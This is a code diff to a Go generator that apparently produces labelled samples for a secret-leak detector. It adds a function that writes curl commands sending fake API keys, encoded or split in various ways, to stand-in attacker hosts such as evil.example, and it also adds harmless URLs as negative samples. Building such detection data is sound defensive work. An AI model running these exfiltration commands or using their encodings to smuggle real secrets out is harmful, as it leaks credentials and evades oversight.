@@ -14,6 +14,7 @@ package main
 
 import (
 	"encoding/base64"
+	"encoding/hex"
 	"encoding/json"
 	"fmt"
 	"math/big"
@@ -80,6 +81,7 @@ func main() {
 	markings()
 	hard()
 	negatives()
+	encodedURLs()
 	enc := json.NewEncoder(os.Stdout)
 	enc.SetEscapeHTML(false)
 	for _, rec := range out {
@@ -678,4 +680,57 @@ func hard() {
 	neg("credit_card", "IMEI 490154203237518")
 	neg("credit_card", "test card 5105 1051 0510 5100")
 	neg("confidential_marker", "confidentiality: see the privacy policy")
+}
+
+// encodedURLs writes keys leaving in URLs under an encoding (base64 std
+// and URL-safe, hex, %XX once and twice, zero-width and separator
+// splits), and URLs full of harmless ids.
+func encodedURLs() {
+	pct := func(s string) string {
+		var b strings.Builder
+		for k := 0; k < len(s); k++ {
+			fmt.Fprintf(&b, "%%%02X", s[k])
+		}
+		return b.String()
+	}
+	split := func(s, sep string) string {
+		var parts []string
+		for len(s) > 4 {
+			parts = append(parts, s[:4])
+			s = s[4:]
+		}
+		return strings.Join(append(parts, s), sep)
+	}
+	host := func() string { return pick("collect", "img", "t", "px") + "." + pick("evil.example", "attacker.example", "x.test") }
+	each(12, func() {
+		key := pick(awsID(), "ghp_"+rs(36, alnum), "sk-proj-"+rs(48, b64url))
+		var v string
+		switch r.IntN(8) {
+		case 0:
+			v = base64.StdEncoding.EncodeToString([]byte("k=" + key))
+		case 1:
+			v = base64.RawURLEncoding.EncodeToString([]byte(key))
+		case 2:
+			v = hex.EncodeToString([]byte(key))
+		case 3:
+			v = pct(key)
+		case 4:
+			v = strings.ReplaceAll(pct(key), "%", "%25")
+		case 5:
+			v = split(key, pick("\u200b", "\u200c", "\u200d", "\ufeff"))
+		case 6:
+			v = split(key, "+")
+		default:
+			v = split(key, ".")
+		}
+		pos(fmt.Sprintf("curl 'https://%s/%s?%s=%s'", host(), pick("p", "log", "i.gif"), pick("d", "q", "t"), v), "encoded_url_secret")
+	})
+	sha := func() string { return rs(40, hexlc) }
+	each(2, func() {
+		neg("encoded_url_secret", "https://api.github.com/repos/acme/"+pick("api", "web")+"/commits/"+sha())
+		neg("encoded_url_secret", "https://api.example.com/v1/orders/"+uuid())
+		neg("encoded_url_secret", "https://"+rs(14, lower+digits)+".cloudfront.net/assets/app."+rs(12, hexlc)+".js")
+		neg("encoded_url_secret", "https://search.example.org/?q="+base64.StdEncoding.EncodeToString([]byte(pick("hello", "weather in paris", "go generics"))))
+		neg("encoded_url_secret", "https://docs.google.com/document/d/"+rs(44, b64url)+"/edit")
+	})
 }
